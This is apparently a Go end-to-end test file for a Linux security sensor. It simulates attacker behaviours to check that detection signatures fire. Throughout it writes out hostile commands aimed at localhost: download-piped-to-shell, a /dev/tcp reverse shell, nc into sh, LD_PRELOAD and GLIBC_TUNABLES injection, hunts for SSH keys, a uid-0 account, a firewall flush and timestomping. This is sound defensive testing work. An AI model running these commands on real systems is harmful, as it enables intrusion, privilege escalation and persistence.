package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/vigil-sec/vigil/event"
)

// Behaviours seen at exec: how a program is started, with what name,
// arguments and environment.
func init() {
	scenarios = append(scenarios,
		scenario{"library injection through LD_PRELOAD", scenarioPreload},
		scenario{"download piped into a shell", scenarioDownloadPipe},
		scenario{"download piped into a shell by a script, the shell first", scenarioDownloadPipeScript},
		scenario{"download piped into a shell by a script, the download first", scenarioDownloadPipeScriptReaderLast},
		scenario{"encoded payload decoded into a shell", scenarioDecodedPayload},
		scenario{"encoded payload decoded into a shell by a script", scenarioDecodedPayloadScript},
		scenario{"network relay piped into a shell by a script", scenarioRelayPipeShell},
		scenario{"shell started with history disabled", scenarioHistoryOff},
		scenario{"program masquerading as a kernel thread", scenarioMasquerade},
		scenario{"cryptocurrency miner options", scenarioMiner},
		scenario{"port scanner started", scenarioScanner},
		scenario{"file system searched for private keys", scenarioKeySearch},
		scenario{"set-user-id programs searched for", scenarioSetuidSearch},
		scenario{"tunnelling tool started", scenarioTunnelTool},
		scenario{"shell spawned by a web server", scenarioWebShell},
		scenario{"program executed without argv", scenarioNoArgv},
		scenario{"capabilities gained through file capabilities", scenarioFileCaps},
		scenario{"set-user-id program started with GLIBC_TUNABLES", scenarioSetuidTunables},
		scenario{"reverse shell one-liner", scenarioReverseShellCommand},
		scenario{"firewall flushed", scenarioFirewallFlush},
		scenario{"second root account created", scenarioRootAccount},
		scenario{"local account with a login shell created", scenarioLocalAccount},
		scenario{"another process's memory opened", scenarioProcMem},
		scenario{"file times copied from a system program", scenarioTimestomp},
		scenario{"program run through the dynamic loader", scenarioLoaderRun},
		scenario{"file made immutable", scenarioChattr},
	)
	benignWorkloads = append(benignWorkloads,
		[]string{"sh", "-c", "echo aGVsbG8K | base64 -d > /dev/null"},
		[]string{"sh", "-c", "curl -s -o /dev/null http://127.0.0.1:9/ || true"},
		[]string{"env", "LD_PRELOAD=", "/bin/true"},
		[]string{"bash", "-c", "echo > /dev/tcp/127.0.0.1/9 || true"},
		// a marker file for find -newer, dated by hand
		[]string{"sh", "-c", `f=/tmp/vigil-benign-marker-$$; touch -d "2 hours ago" "$f"; rm -f "$f"`},
		// pipelines in a script, the readers taking data, not code, from the
		// pipe: the sensor joins their ends, the signatures stay quiet
		[]string{"sh", "-c", `d=$(mktemp -d); printf '%s\n' 'curl -fsS http://127.0.0.1:9/x | perl -ne print' 'echo aGVsbG8K | base64 -d | sh -c cat >/dev/null' 'echo aGVsbG8K | base64 -d | { sleep 0.2; exec cat; } >/dev/null' > "$d/s.sh"; sh "$d/s.sh"; rm -rf "$d"; true`},
		// searches that are not credential hunts: a project's working tree,
		// one configuration file, certificates
		[]string{"sh", "-c", `d=$(mktemp -d); echo 'db_password=x' > "$d/app.conf"; cd "$d" && grep -rn password . >/dev/null; grep -q PasswordAuthentication /etc/ssh/sshd_config 2>/dev/null; find /usr/share/ca-certificates -name '*.crt' >/dev/null; cd /; rm -rf "$d"; true`},
		// ldd runs the loader twice, to verify and to list: nothing is run
		[]string{"sh", "-c", "! command -v ldd >/dev/null || ldd /bin/true >/dev/null"},
	)
}

func isExe(path string) func(string) bool { return func(exe string) bool { return exe == path } }

// resolved is the path the kernel reports for a program found on PATH.
func resolved(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		t.Fatalf("%s is needed: %v", name, err)
	}
	if p, err = filepath.EvalSymlinks(p); err != nil {
		t.Fatal(err)
	}
	return p
}

// runQuiet runs cmd, which may fail: only that it started matters.
func runQuiet(t *testing.T, cmd *exec.Cmd) uint32 {
	t.Helper()
	if err := cmd.Start(); err != nil {
		t.Fatalf("%v: %v", cmd.Args, err)
	}
	cmd.Wait()
	return uint32(cmd.Process.Pid)
}

func shellScenario(t *testing.T, what, sigID, script string) []expectation {
	sh := resolved(t, "sh")
	pid := runQuiet(t, exec.Command(sh, "-c", script))
	return []expectation{{what: what, sigID: sigID, pid: pid, exe: isExe(sh), exeDoc: sh, comm: filepath.Base(sh), event: "sched_process_exec"}}
}

func scenarioPreload(t *testing.T, _ *e2eEnv) []expectation {
	tru := resolved(t, "true")
	cmd := exec.Command(tru)
	// the library does not exist: the loader complains and runs the program
	cmd.Env = append(os.Environ(), "LD_PRELOAD="+filepath.Join(t.TempDir(), "libhook.so"))
	pid := runQuiet(t, cmd)
	return []expectation{{what: "true started with LD_PRELOAD from a temporary folder", sigID: "loader-env-injection", pid: pid,
		exe: isExe(tru), exeDoc: tru, comm: "true", event: "sched_process_exec"}}
}

func scenarioDownloadPipe(t *testing.T, _ *e2eEnv) []expectation {
	// nothing listens there: the download fails, the command line is the behaviour
	return shellScenario(t, "curl piped into sh", "download-piped-to-shell", "curl -fsS http://127.0.0.1:9/stage2.sh | sh")
}

// pipeScenario runs script as a file (sh FILE): its pipelines are on no
// command line. The finding is on the exec of exe (comm), a child of that
// sh, which names the pipe's other end: argument joined is other.
func pipeScenario(t *testing.T, what, sigID, script, exe, comm, joined, other string) []expectation {
	file := filepath.Join(t.TempDir(), "stage.sh")
	if err := os.WriteFile(file, []byte(script+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	pid := runQuiet(t, exec.Command(resolved(t, "sh"), file))
	return []expectation{{what: what, sigID: sigID, ppid: pid, exe: isExe(exe), exeDoc: exe, comm: comm,
		event: "sched_process_exec", also: argIs(joined, other)}}
}

func scenarioDownloadPipeScript(t *testing.T, _ *e2eEnv) []expectation {
	// the download starts last: its exec meets the shell already reading
	return pipeScenario(t, "curl of a script piped into sh, sh first", "download-piped-to-shell",
		"{ sleep 0.3; exec curl -fsS http://127.0.0.1:9/stage2.sh; } | sh", resolved(t, "curl"), "curl", "stdout_reader_comm", "sh")
}

func scenarioDownloadPipeScriptReaderLast(t *testing.T, _ *e2eEnv) []expectation {
	// the shell starts last: its exec meets the download's
	return pipeScenario(t, "curl of a script piped into sh, curl first", "download-piped-to-shell",
		"curl -fsS http://127.0.0.1:9/stage2.sh | { sleep 0.3; exec sh; }", resolved(t, "sh"), "sh", "stdin_writer_comm", "curl")
}

func scenarioDecodedPayloadScript(t *testing.T, _ *e2eEnv) []expectation {
	return pipeScenario(t, "base64 decoded into sh by a script", "decoded-payload-exec",
		"echo dHJ1ZQo= | base64 -d | { sleep 0.3; exec sh; }", resolved(t, "sh"), "sh", "stdin_writer_comm", "base64")
}

func scenarioRelayPipeShell(t *testing.T, _ *e2eEnv) []expectation {
	// a copy of cat named nc stands in for netcat (not installed here): it
	// fails at once on its option, sh reads nothing
	nc := filepath.Join(t.TempDir(), "nc")
	copyFile(t, resolved(t, "cat"), nc, 0o755)
	return pipeScenario(t, "nc piped into sh, sh first", "reverse-shell",
		"{ sleep 0.3; exec "+nc+" --vigil-no-such-option 2>/dev/null; } | sh", nc, "nc", "stdout_reader_comm", "sh")
}

func scenarioDecodedPayload(t *testing.T, _ *e2eEnv) []expectation {
	return shellScenario(t, "base64 decoded into sh", "decoded-payload-exec", "echo dHJ1ZQo= | base64 -d | sh")
}

func scenarioHistoryOff(t *testing.T, _ *e2eEnv) []expectation {
	bash := resolved(t, "bash")
	cmd := exec.Command(bash, "-c", "true")
	cmd.Env = append(os.Environ(), "HISTFILE=/dev/null")
	pid := runQuiet(t, cmd)
	return []expectation{{what: "bash with HISTFILE=/dev/null", sigID: "shell-history-disabled", pid: pid,
		exe: isExe(bash), exeDoc: bash, comm: "bash", event: "sched_process_exec"}}
}

func scenarioMasquerade(t *testing.T, _ *e2eEnv) []expectation {
	prog := filepath.Join(t.TempDir(), "kworker")
	copyFile(t, resolved(t, "true"), prog, 0o755)
	cmd := exec.Command(prog)
	cmd.Args = []string{"[kworker/0:1-events]"}
	pid := runQuiet(t, cmd)
	return []expectation{{what: "a copy of true named kworker, argv[0] [kworker/0:1-events]", sigID: "masquerading-process", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "kworker", event: "sched_process_exec"}}
}

func scenarioMiner(t *testing.T, _ *e2eEnv) []expectation {
	prog := filepath.Join(t.TempDir(), "updater")
	copyFile(t, resolved(t, "true"), prog, 0o755)
	pid := runQuiet(t, exec.Command(prog, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level=1"))
	return []expectation{{what: "a program started with a stratum pool", sigID: "crypto-miner-exec", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "updater", event: "sched_process_exec"}}
}

// scenarioScanner: a program named nmap scans a range of ports (a copy of
// true stands in for it: the exec is what is judged; netcat waiting for
// one port is left to the rule tests, since a copy of a program run from a
// scratch folder is a finding of its own).
func scenarioScanner(t *testing.T, _ *e2eEnv) []expectation {
	pid, nmap := harmless(t, "nmap", "-sT", "-p", "1-1024", "127.0.0.1")
	return []expectation{{what: "nmap -sT -p 1-1024", sigID: "network-service-scan", pid: pid,
		exe: isExe(nmap), exeDoc: nmap, comm: "nmap", event: "sched_process_exec"}}
}

// scenarioLocalAccount: useradd makes an account with a login shell (a
// backdoor user); a harmless program named useradd stands in for it.
func scenarioLocalAccount(t *testing.T, _ *e2eEnv) []expectation {
	pid, prog := harmless(t, "useradd", "-M", "-s", "/bin/sh", "-p", "$6$salt$hash", "sysupdate")
	return []expectation{{what: "useradd -M -s /bin/sh -p HASH", sigID: "local-account-created", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "useradd", event: "sched_process_exec"}}
}

// scenarioKeySearch: find hunts for SSH private keys and key files from an
// absolute folder, as a privilege-escalation script does from /.
func scenarioKeySearch(t *testing.T, _ *e2eEnv) []expectation {
	find := resolved(t, "find")
	pid := runQuiet(t, exec.Command(find, t.TempDir(), "-name", "id_rsa*", "-o", "-name", "*.kdbx"))
	return []expectation{{what: "find DIR -name id_rsa*", sigID: "credential-search", pid: pid,
		exe: isExe(find), exeDoc: find, comm: "find", event: "sched_process_exec"}}
}

// scenarioSetuidSearch: find lists the set-user-id programs of a system
// folder, as enumeration scripts do from /.
func scenarioSetuidSearch(t *testing.T, _ *e2eEnv) []expectation {
	find := resolved(t, "find")
	pid := runQuiet(t, exec.Command(find, "/usr/bin", "-maxdepth", "1", "-perm", "-u=s", "-type", "f"))
	return []expectation{{what: "find /usr/bin -perm -u=s", sigID: "privilege-escalation-recon", pid: pid,
		exe: isExe(find), exeDoc: find, comm: "find", event: "sched_process_exec"}}
}

// scenarioTunnelTool: a program named chisel (a copy of true) opens a
// reverse SOCKS tunnel, as an intruder pivoting through the host would.
func scenarioTunnelTool(t *testing.T, _ *e2eEnv) []expectation {
	pid, prog := harmless(t, "chisel", "client", "127.0.0.1:9", "R:socks")
	return []expectation{{what: "chisel client R:socks", sigID: "offensive-tool", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "chisel", event: "sched_process_exec"}}
}

func scenarioWebShell(t *testing.T, _ *e2eEnv) []expectation {
	// a shell installed as nginx stands in for the web server; its child
	// shell is what a web shell runs
	server := filepath.Join(t.TempDir(), "nginx")
	copyFile(t, resolved(t, "sh"), server, 0o755)
	sh := resolved(t, "sh")
	pid := runQuiet(t, exec.Command(server, "-c", sh+" -c 'id > /dev/null'; true"))
	return []expectation{{what: "sh started by a process named nginx", sigID: "web-server-shell", ppid: pid,
		exe: isExe(sh), exeDoc: sh, comm: filepath.Base(sh), event: "sched_process_exec"}}
}

func scenarioNoArgv(t *testing.T, env *e2eEnv) []expectation {
	trig := filepath.Join(env.triggers, "noargv")
	var r struct {
		Pid uint32 `json:"pid"`
	}
	tru := resolved(t, "true")
	runTrigger(t, exec.Command(trig, tru), &r)
	// the exec succeeded: sched_process_exec of true, whose argc is the
	// caller's 0 although Linux >= 5.18 ran it with {""}
	return []expectation{{what: "exec with an empty argv", sigID: "exec-without-argv", pid: r.Pid,
		exe: isExe(tru), exeDoc: tru, comm: filepath.Base(tru), event: "sched_process_exec"}}
}

// vfsCapData is struct vfs_cap_data (VFS_CAP_REVISION_2) with the effective
// flag: the security.capability attribute setcap writes.
func vfsCapData(permitted uint64) []byte {
	b := make([]byte, 20)
	binary.LittleEndian.PutUint32(b[0:], 0x02000000|1)
	binary.LittleEndian.PutUint32(b[4:], uint32(permitted))
	binary.LittleEndian.PutUint32(b[12:], uint32(permitted>>32))
	return b
}

func scenarioFileCaps(t *testing.T, _ *e2eEnv) []expectation {
	prog := installForOthers(t, resolved(t, "true"), "capped")
	const capSetuid = 7
	if err := unix.Setxattr(prog, "security.capability", vfsCapData(1<<capSetuid), 0); err != nil {
		t.Fatalf("giving %s cap_setuid: %v", prog, err)
	}
	cmd := exec.Command(prog)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	pid := runQuiet(t, cmd)
	return []expectation{{what: "a program with cap_setuid+ep run by uid 65534", sigID: "capabilities-gained-at-exec", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "capped", event: "commit_creds"}}
}

func scenarioSetuidTunables(t *testing.T, env *e2eEnv) []expectation {
	suid := installSetuidRoot(t, filepath.Join(env.triggers, "setuidroot"))
	cmd := exec.Command(suid)
	cmd.Env = append(os.Environ(), "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAA")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	pid := runQuiet(t, cmd)
	return []expectation{{what: "set-user-id program with an overflowing GLIBC_TUNABLES, run by uid 65534", sigID: "setuid-loader-env", pid: pid,
		exe: isExe(suid), exeDoc: suid, comm: "setuidroot", event: "sched_process_exec",
		also: func(ev *event.Event) bool { return ev.Args["setuid"] == true }}}
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	t.Helper()
	data, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, data, mode); err != nil {
		t.Fatal(err)
	}
}

func scenarioReverseShellCommand(t *testing.T, _ *e2eEnv) []expectation {
	bash := resolved(t, "bash")
	// nothing listens on the discard port: the connection is refused, the
	// command line is the behaviour
	pid := runQuiet(t, exec.Command(bash, "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"))
	return []expectation{{what: "bash -i redirected to /dev/tcp", sigID: "reverse-shell-command", pid: pid,
		exe: isExe(bash), exeDoc: bash, comm: "bash", event: "sched_process_exec"}}
}

// harmless runs a copy of true under a tool's name: the command line is the
// behaviour, and the host's real tool is never touched.
func harmless(t *testing.T, name string, args ...string) (uint32, string) {
	t.Helper()
	prog := filepath.Join(t.TempDir(), name)
	copyFile(t, resolved(t, "true"), prog, 0o755)
	return runQuiet(t, exec.Command(prog, args...)), prog
}

func scenarioFirewallFlush(t *testing.T, _ *e2eEnv) []expectation {
	pid, prog := harmless(t, "iptables", "-F")
	return []expectation{{what: "iptables -F", sigID: "security-tools-disabled", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "iptables", event: "sched_process_exec"}}
}

func scenarioRootAccount(t *testing.T, _ *e2eEnv) []expectation {
	pid, prog := harmless(t, "useradd", "-o", "-u", "0", "-g", "0", "toor")
	return []expectation{{what: "useradd -o -u 0", sigID: "privileged-account-change", pid: pid,
		exe: isExe(prog), exeDoc: prog, comm: "useradd", event: "sched_process_exec"}}
}

func scenarioProcMem(t *testing.T, _ *e2eEnv) []expectation {
	victim := exec.Command(resolved(t, "sleep"), "30")
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { victim.Process.Kill(); victim.Wait() }()
	dd := resolved(t, "dd")
	// opening is the behaviour: count=0 reads nothing
	pid := runQuiet(t, exec.Command(dd, fmt.Sprintf("if=/proc/%d/mem", victim.Process.Pid), "of=/dev/null", "count=0"))
	return []expectation{{what: "dd opening another process's /proc/<pid>/mem", sigID: "process-memory-access", pid: pid,
		exe: isExe(dd), exeDoc: dd, comm: "dd", event: "security_file_open"}}
}

// scenarioTimestomp: the real touch gives a file of the test the times of
// /bin/ls, as a planted file is made to look as old as the system.
func scenarioTimestomp(t *testing.T, _ *e2eEnv) []expectation {
	target := filepath.Join(t.TempDir(), ".planted")
	if err := os.WriteFile(target, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	touch := resolved(t, "touch")
	pid := runQuiet(t, exec.Command(touch, "-r", resolved(t, "ls"), target))
	return []expectation{{what: "touch -r /bin/ls", sigID: "timestomp", pid: pid,
		exe: isExe(touch), exeDoc: touch, comm: "touch", event: "sched_process_exec"}}
}

// scenarioLoaderRun: a copy of true in a test folder, run by handing it to
// the dynamic loader instead of executing it.
func scenarioLoaderRun(t *testing.T, _ *e2eEnv) []expectation {
	loader, err := filepath.Glob("/lib64/ld-linux-*.so.*")
	if err != nil || len(loader) == 0 {
		t.Fatalf("no /lib64/ld-linux-*.so.* to run a program with (%v)", err)
	}
	prog := filepath.Join(t.TempDir(), "payload")
	copyFile(t, resolved(t, "true"), prog, 0o644) // not even executable
	ld, err := filepath.EvalSymlinks(loader[0])
	if err != nil {
		t.Fatal(err)
	}
	pid := runQuiet(t, exec.Command(loader[0], prog))
	return []expectation{{what: "ld-linux " + prog, sigID: "loader-run-program", pid: pid,
		exe: isExe(ld), exeDoc: ld, comm: filepath.Base(ld)[:min(15, len(filepath.Base(ld)))], event: "sched_process_exec"}}
}

// scenarioChattr: the real chattr makes a file of the test immutable (where
// the file system lets it) and then mutable again, so it can be removed.
func scenarioChattr(t *testing.T, _ *e2eEnv) []expectation {
	target := filepath.Join(t.TempDir(), "cron-job")
	if err := os.WriteFile(target, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	chattr := resolved(t, "chattr")
	pid := runQuiet(t, exec.Command(chattr, "+i", target))
	t.Cleanup(func() { exec.Command(chattr, "-i", target).Run() })
	return []expectation{{what: "chattr +i", sigID: "file-attribute-lock", pid: pid,
		exe: isExe(chattr), exeDoc: chattr, comm: "chattr", event: "sched_process_exec"}}
}
